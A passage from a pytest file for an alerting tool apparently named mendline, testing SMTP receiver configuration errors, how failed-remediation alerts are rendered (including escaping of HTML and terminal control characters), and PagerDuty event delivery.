        (email_receiver(25, username_env="SMTP_USER", password_env="PRESENT"), "SMTP_USER"),
        (email_receiver(25, username_env="PRESENT"), "username and a password"),
    ],
)
def test_make_channel_refuses_what_it_cannot_send_with(receiver: Any, said: str) -> None:
    environ = {"PRESENT": "yes", "HOOK": "", "PD_KEY": ""}

    with pytest.raises(ConfigError, match="receiver 'ops'") as caught:
        make_channel("ops", receiver, environ)

    assert said in str(caught.value)


def remediation_failed(**details: Any) -> Alert:
    """A remediation's escalation as the alert store builds it: on the check's issue, with the
    run in its details (as RemediationStore.record_escalation writes them)."""
    run = {
        "remediation": "restart-payments",
        "run_id": 12,
        "run_target": "payments-host",
        "state": "not_helped",
        "result": "ok",
        "ran": "systemctl restart payments",
        "detail": "exited with status 0",
        "verified": False,
        "check": "payments-api",
        "subject": "check:payments-api",
        "trigger": "check payments-api is down since 2026-11-29 12:00:00 UTC",
    }
    return health("remediation_failed").model_copy(update={"details": {**run, **details}})


def test_a_remediation_that_did_not_help_says_what_ran_and_what_the_check_said() -> None:
    text = render_text(note(remediation_failed()))
    assert text.startswith("[CRITICAL] remediation did not help · payments-api\n")
    for line in (
        "Remediation: restart-payments on payments-host",
        "Run: 12 (not_helped)",
        "Ran: systemctl restart payments",
        "Outcome: exited with status 0",
        "Check again: payments-api still failed after the run",
        "See: mendline remediations list --target payments-host",
    ):
        assert line in text.splitlines()
    assert "analysis pending" not in text and "Culprit" not in text
    failed = render_text(note(remediation_failed(state="timed_out", verified=None)))
    assert "Check again: payments-api was not run again: the run itself failed" in failed
    # What a server answered may be in the outcome: escaped, its controls dropped.
    shown = remediation_failed(detail="answered 302, redirecting to <b>x</b>\x1b[2J")
    html = render_html(note(shown))
    assert "&lt;b&gt;x&lt;/b&gt;" in html and "\x1b" not in html
    assert "&lt;b&gt;x&lt;/b&gt;" in json.dumps(render_blocks(note(shown)))
    assert subject(note(remediation_failed())).startswith(
        "[mendline] CRITICAL payments-api remediation did not help: Downtime"
    )


@loopback
async def test_pagerduty_hears_a_remediation_that_did_not_help_on_the_check_s_incident(
    pagerduty: FakePagerDuty,
) -> None:
    channel = pagerduty_channel(pagerduty)
    try:
        sent = await channel.send(note(remediation_failed()))
    finally:
        await channel.aclose()
    assert sent == {"dedup_key": "mendline-issue-41"}  # the incident its going down opened
    (event,) = pagerduty.bodies()
    assert event["event_action"] == "trigger"
    assert event["payload"]["class"] == "remediation"
    details = event["payload"]["custom_details"]
    assert "root_cause" not in details and details["details"]["run_id"] == 12
